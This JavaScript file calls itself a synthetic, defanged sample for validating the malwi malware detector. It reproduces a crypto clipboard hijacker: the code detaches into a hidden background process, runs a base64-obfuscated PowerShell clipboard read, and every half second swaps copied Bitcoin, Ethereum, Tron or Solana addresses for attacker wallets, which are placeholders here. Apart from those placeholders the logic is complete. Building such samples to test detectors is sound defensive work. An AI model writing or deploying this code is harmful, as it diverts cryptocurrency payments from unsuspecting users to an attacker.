// SYNTHETIC, DEFANGED malwi validation sample - modelled on crypto clipboard-hijacker packages (2021-2024); never run.
// Detaches itself, then every half second reads the clipboard and swaps any wallet address
// for the attacker's (placeholders here).
const { spawn, execSync } = require('child_process');

if (process.argv[2] !== '--child') {
  spawn(process.execPath, [__filename, '--child'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  process.exit(0);
}

const d = (s) => Buffer.from(s, 'base64').toString();
const swaps = [
  [/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, 'PLACEHOLDER_WALLET_BTC'],
  [/^0x[a-fA-F0-9]{40}$/, 'PLACEHOLDER_WALLET_ETH'],
  [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, 'PLACEHOLDER_WALLET_TRX'],
  [/^[1-9A-HJ-NP-Za-km-z]{32,44}$/, 'PLACEHOLDER_WALLET_SOL']
];

function read() {
  if (process.platform === 'win32') return execSync(d('cG93ZXJzaGVsbCAtTm9Qcm9maWxlIC1Db21tYW5kIEdldC1DbGlwYm9hcmQ='), { encoding: 'utf8' }).trim();
  if (process.platform === 'darwin') return execSync('pbpaste', { encoding: 'utf8' }).trim();
  return execSync('xclip -selection clipboard -o', { encoding: 'utf8' }).trim();
}

function write(text) {
  if (process.platform === 'win32') execSync(`powershell -NoProfile -Command Set-Clipboard -Value '${text}'`);
  else if (process.platform === 'darwin') execSync('pbcopy', { input: text });
  else execSync('xclip -selection clipboard', { input: text });
}

setInterval(() => {
  try {
    const text = read();
    for (const [re, mine] of swaps) {
      if (re.test(text) && text !== mine) {
        write(mine);
        break;
      }
    }
  } catch (e) {}
}, 500);
